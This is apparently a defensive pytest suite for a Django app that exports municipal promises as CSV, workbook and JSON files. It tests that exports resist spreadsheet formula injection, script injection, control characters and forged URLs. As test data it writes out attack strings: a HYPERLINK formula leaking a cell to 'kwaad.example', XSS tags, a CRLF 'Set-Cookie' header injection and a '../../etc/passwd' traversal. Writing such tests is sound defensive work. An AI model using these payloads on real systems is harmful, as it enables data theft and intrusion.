"""What somebody could put in an agreement, or in an address, to harm who opens a file."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
from rdflib import Graph

from akkoord.web.agreement.models import Domain, Finding, FindingText, Name, PromiseText
from akkoord.web.agreement.sharing import files

pytestmark = [pytest.mark.django_db, pytest.mark.both_databases]

FORMULA = '=HYPERLINK("https://kwaad.example/?"&A1;"klik")'
STARTS = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
INSIDE = [
    "fietsen;=1+1",
    "fietsen; =1+1",
    'fietsen;"=1+1',
    "fietsen\n=1+1",
    "fietsen\t@SUM(A1)",
    "fietsen;＝1+1",
]
MARKUP = "</script><script>alert(1)</script><img src=x onerror=alert(1)>]]>&amp;\u2028"


def cells(response):
    """Return every cell of a file of CSV below its names."""
    return [
        cell
        for row in list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"), newline="")))[1:]
        for cell in row
    ]


def sheets(response):
    return openpyxl.load_workbook(io.BytesIO(response.content))


def put(text):
    """Write a text in every place that a reading can fill."""
    PromiseText.objects.filter(promise__number=5).update(
        text=text,
        theme=text,
        subtheme=text,
        targets=[
            {
                "quantity": None,
                "unit": text,
                "comparator": text,
                "deadline": text,
                "baseline": text,
                "text": text,
            }
        ],
        trends=[{"direction": text, "text": text}],
        conditions=[{"kind": text, "text": text}],
    )
    Domain.objects.filter(slug="wonen").update(title=text)
    Name.objects.filter(name="OCMW").update(name=text)
    Name.objects.filter(kind="place").update(name=text)


class TestAFormula:
    @pytest.mark.parametrize("text", [FORMULA, *STARTS])
    def test_runs_in_no_cell_wherever_it_stands(self, client, site, version, text):
        put(text)
        version.title = text
        version.save()

        for name in ("beloften", "domeinen", "actoren", "plaatsen"):
            given = cells(client.get(f"/{name}.csv"))
            assert any(text.lstrip("\t\r\n") in cell for cell in given)
            assert [cell for cell in given if cell[:1] in "=+-@\t\r\n＝＋－＠" and cell] == []

    @pytest.mark.parametrize("text", INSIDE)
    def test_runs_in_no_cell_behind_what_a_spreadsheet_may_cut_at(self, client, version, text):
        put(text)
        raw = client.get("/beloften.csv").text

        pieces = [piece.lstrip(" '\"").lstrip() for sign in ";\t\n" for piece in raw.split(sign)]
        guarded = [piece.lstrip(' "') for sign in ";\t\n" for piece in raw.split(sign)]
        assert any(piece.startswith(("=", "@", "＝")) for piece in pieces)
        assert not any(piece.startswith(("=", "@", "＝")) for piece in guarded)

    @pytest.mark.parametrize("text", [FORMULA, *STARTS, *INSIDE])
    def test_is_text_in_a_workbook(self, client, site, version, text):
        put(text)

        for name in ("beloften", "domeinen", "actoren", "plaatsen"):
            book = sheets(client.get(f"/{name}.xlsx"))
            kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
            assert "f" not in kinds

    def test_is_kept_as_it_was_said_for_a_program(self, client, version):
        put(FORMULA)

        assert client.get("/beloften.json").json()["rows"][4]["text"] == FORMULA

    def test_runs_in_no_cell_of_findings(self, client, version):
        text = PromiseText.objects.get(promise__number=5)
        because = {"code": "finding.statement", "values": {"words": FORMULA}}
        finding = Finding.objects.create(version=version, position=900, code="statement", because=because)
        FindingText.objects.create(finding=finding, text=text, position=0)

        given = cells(client.get("/bevindingen.csv?soort=statement"))
        assert any("HYPERLINK" in cell for cell in given)
        assert not any(cell.startswith(("=", ";=")) for cell in given)


class TestMarkup:
    def test_is_text_in_each_form(self, client, site, version):
        put(MARKUP)

        for ending in files.ENDINGS:
            answer = client.get(f"/beloften.{ending}")
            assert answer["Content-Type"].partition(";")[0] != "text/html"
            assert answer["X-Content-Type-Options"] == "nosniff"
            assert answer["Content-Disposition"].startswith("attachment")
        assert sheets(client.get("/beloften.xlsx")).worksheets[0]["C6"].value == MARKUP
        assert len(Graph().parse(data=client.get("/beloften.jsonld").content, format="json-ld")) > 100

    def test_in_a_name_of_a_theme_reaches_no_link_unescaped(self, client, site, version):
        page = client.get("/beloften/", {"theme": '"><script>alert(1)</script>'}).text

        assert "<script>alert(1)" not in page


class TestSignsThatNoFileCanHold:
    @pytest.mark.parametrize("sign", ["\x01", "\x1b", "\x0b", "\uffff", "\u202e"])
    def test_break_no_file(self, client, site, version, sign):
        put(f"a{sign}b")

        for name in ("beloften", "domeinen", "actoren", "plaatsen"):
            for ending in files.ENDINGS:
                assert client.get(f"/{name}.{ending}").status_code == 200
            sheets(client.get(f"/{name}.xlsx"))
            json.loads(client.get(f"/{name}.json").content)

    def test_break_no_file_though_the_cell_is_longer_than_a_workbook_holds(self, client, site, version):
        put("é" * 150)
        PromiseText.objects.filter(promise__number=5).update(text="😀" * 40_000)
        cell = sheets(client.get("/beloften.xlsx")).worksheets[0]["C6"].value

        assert len(cell.encode("utf-16-le")) // 2 <= 32_767


class TestAnAddress:
    @pytest.mark.parametrize(
        "query",
        [
            "domain=%00",
            "theme=%00",
            "q=%00",
            "actor=%00",
            "sdg=99999999999999999999",
            "sdg=-1",
            "page=99999999999999999999",
            "domain=wonen&domain=zorg",
            "kind[]=goal",
            "q=" + "a" * 5000,
            "theme=%0d%0aSet-Cookie:%20a=b",
            "actor=../../etc/passwd",
        ],
    )
    def test_that_is_forged_gives_a_file_or_a_refusal(self, client, site, version, query):
        for ending in files.ENDINGS:
            answer = client.get(f"/beloften.{ending}?{query}")
            assert answer.status_code in {200, 422}
            assert not any("\n" in value or "\r" in value for value in answer.headers.values())
            assert "Set-Cookie" not in answer

    @pytest.mark.parametrize(
        "path",
        [
            "/bevindingen.csv?soort=%00&domein=%00",
            "/bevindingen.json?domein=nergens",
            "/bevindingen/?domein=%00",
        ],
    )
    def test_of_findings_that_is_forged_gives_a_file(self, client, version, path):
        assert client.get(path).status_code == 200

    @pytest.mark.parametrize("old", ["0", "99999999999999999999999", "-1", "1'"])
    def test_of_a_comparison_that_is_forged_is_not_found(self, client, version, old):
        assert client.get(f"/vergelijken/{old}/{version.pk}.csv").status_code == 404

    @pytest.mark.parametrize("number", ["99999999999999999999999", "0"])
    def test_of_a_promise_that_cannot_be_is_not_found(self, client, version, number):
        assert client.get(f"/beloften/{number}.jsonld").status_code == 404

    @pytest.mark.parametrize("method", ["post", "put", "delete"])
    def test_changes_nothing(self, client, version, method):
        assert getattr(client, method)("/beloften.csv").status_code == 405

    def test_names_the_host_of_the_city_whatever_host_is_asked(self, client, site, version):
        site.ALLOWED_HOSTS = ["*"]
        for ending in ("csv", "json", "jsonld"):
            answer = client.get(f"/beloften.{ending}", headers={"host": "kwaad.example"})
            assert "kwaad.example" not in answer.text
